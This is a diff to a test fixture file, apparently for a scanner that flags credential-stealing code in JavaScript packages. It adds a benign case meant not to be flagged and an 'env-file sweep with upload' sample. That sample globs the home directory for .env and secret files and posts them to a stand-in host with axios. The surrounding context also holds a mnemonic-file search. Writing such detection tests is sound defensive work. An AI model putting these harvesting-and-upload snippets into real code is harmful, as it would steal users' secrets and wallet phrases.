@@ -18,6 +18,11 @@ module.exports = { key, known };
       code: `require('dotenv').config({ path: '.env' });\nconst port = process.env.PORT || 3000;\n`,
     },
     {
+      name: 'vite define keys and markdown bold (not globs)',
+      file: 'dist/node.js',
+      code: `const keys = ['import.meta.env.*', 'process.env.*'];\nconst md = '**Seed:** 42';\nfetch('https://example.org');\n`,
+    },
+    {
       name: 'aws sdk credentials file',
       file: 'src/credentials.ts',
       code: `import { homedir } from 'os';\nexport const credentialsFile = process.env.AWS_SHARED_CREDENTIALS_FILE ?? homedir() + '/.aws/credentials';\n`,
@@ -48,6 +53,12 @@ request.post({ url: 'http://example.org/uploads', formData: { multi_file: target
       file: 'util.js',
       code: `const glob = require('glob');\nconst files = glob.sync('**/*mnemonic*', { cwd: require('os').homedir() });\n`,
       findings: [{ line: 2, severity: 'medium', decoded: undefined }],
+    },
+    {
+      name: 'env-file sweep with upload',
+      file: 'lib/collect.js',
+      code: `const fg = require('fast-glob');\nconst files = fg.sync(['**/*.env*', '**/*secret*'], { cwd: home });\nrequire('axios').post('https://x.example.net/u', files);\n`,
+      findings: [{ line: 2, severity: 'medium' }],
     },
   ],
 });
